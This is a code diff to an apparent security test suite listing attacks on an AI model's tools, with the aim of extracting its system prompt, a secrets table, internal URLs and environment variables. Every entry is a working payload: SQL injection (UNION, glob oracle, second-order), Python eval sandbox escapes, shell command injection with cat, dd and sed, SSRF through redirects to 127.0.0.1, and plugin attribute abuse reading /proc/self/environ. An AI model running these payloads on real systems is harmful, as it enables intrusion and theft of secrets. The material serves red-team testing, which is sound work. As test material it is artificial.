@@ -106,10 +106,9 @@ REQUESTS = {
 }
 _B64 = base64.b64encode(b"open('/tmp/assistant/system-prompt.txt').read()").decode()
 ATTACKS = [
-    Attack("SQL, list", "order_tool", _orders(customer="x", status="a'\") UNION SELECT name, value, 1 FROM secrets --"), "never"),
-    Attack("SQL, order by", "order_tool", _orders(customer="x", order_by="1) UNION SELECT 1"), "never"),
+    Attack("SQL, list", "order_tool", _orders(customer="x", status="a') UNION SELECT * FROM (SELECT value FROM secrets) JOIN (SELECT 1) JOIN (SELECT 2) -- \""), KEY),
     Attack("SQL, order by", "order_tool", _orders(customer="Ann", order_by="CASE (SELECT value FROM secrets) WHEN 'assistant-key-7755' THEN -id ELSE id END"), "[[3, "),
-    Attack("SQL, list", "order_tool", _orders(customer="x", status="'union/**/select/**/1||name||value||2/**/from/**/secrets/**/--"), "never"),
+    Attack("SQL, list", "order_tool", _orders(customer="x", status="n') or exists(select 1 from secrets where value glob \"assistant-key-77*\") --"), "[[1, "),
     Attack("eval", "calculator_tool", _calc("__import__('os').popen('cat /tmp/assistant/system-prompt.txt').read()"), SECRET),
     Attack("eval", "calculator_tool", _calc("open('/tmp/assistant/system-prompt.txt').read()"), SECRET),
     Attack("eval", "calculator_tool", _calc("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('cat /tmp/assistant/system-prompt.txt', shell=True, stdout=-1).communicate()[0]"), SECRET),
@@ -130,12 +129,12 @@ ATTACKS = [
     Attack("command, separator", "search_tool", _search("zzz", folder=".; cat ../system-prompt.txt"), SECRET),
     Attack("command, argument", "search_tool", _search("secret", folder="../"), SECRET),
     Attack("command, or", "search_tool", _search("zzz", folder="nowhere || dd if=../system-prompt.txt 2>/dev/null"), SECRET),
-    Attack("command, substitution", "search_tool", _search("zzz", folder="$(sed p ../system-prompt.txt >../notes/leak.txt; echo .)"), "never"),
+    Attack("command, substitution", "notes_tool", _note("leak.txt"), SECRET, before=[("search_tool", _search("zzz", folder="$(sed p ../system-prompt.txt >leak.txt; echo .)"))]),
     Attack("SSRF, prefix", "browse_tool", _browse("@PARTNER@@127.0.0.1:@PORT@/internal"), INTERNAL),
     Attack("SSRF, redirect", "browse_tool", _browse("@PARTNER@/redirect?to=http://127.0.0.1:@PORT@/internal"), INTERNAL),
     Attack("SSRF, redirect", "browse_tool", _browse("@PARTNER@/redirect?to=@PARTNER@/redirect%3Fto%3Dhttp%253A%252F%252F127.1%253A@PORT@%252Finternal"), INTERNAL),
-    Attack("import, dynamic", "plugin", _plugin("weather", "__builtins__.get.__self__.__class__", x=1), "never"),
-    Attack("import, attributes", "plugin", _plugin("convert", "RATES.copy"), "never"),
+    Attack("import, attributes", "plugin", _plugin("weather", "__loader__.get_data", path="/tmp/assistant/system-prompt.txt"), SECRET),
+    Attack("import, attributes", "plugin", _plugin("convert", "__spec__.loader.get_data", path="/proc/self/environ"), ENV),
     Attack("SQL, second order", "chat", _chat("/recall", 66), KEY, before=[("chat", _chat("/remember x' UNION SELECT name, value FROM secrets --", 66))]),
     Attack("SQL, second order", "chat", _chat("/recall", 67), KEY, before=[("chat", _chat("/remember '||''UNION/**/SELECT(value),2/**/FROM(secrets)WHERE'1", 67))]),
 ]
